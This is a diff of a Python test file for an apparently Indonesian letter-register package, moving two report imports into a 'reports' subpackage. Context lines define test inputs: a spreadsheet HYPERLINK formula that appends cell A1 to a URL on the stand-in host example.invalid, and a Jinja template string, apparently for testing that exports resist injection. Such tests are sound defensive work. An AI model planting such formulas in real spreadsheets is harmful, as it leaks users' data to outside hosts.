@@ -12,8 +12,8 @@ import openpyxl
 import pytest
 
 from surat import Register, SuratError
-from surat.kronologi import buku_kronologi
-from surat.laporan import bulan, laporan_bulanan
+from surat.reports.kronologi import buku_kronologi
+from surat.reports.laporan import bulan, laporan_bulanan
 
 FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"klik")'
 JINJA = "{{ kop }} {% for x in langkah %}X{% endfor %}"
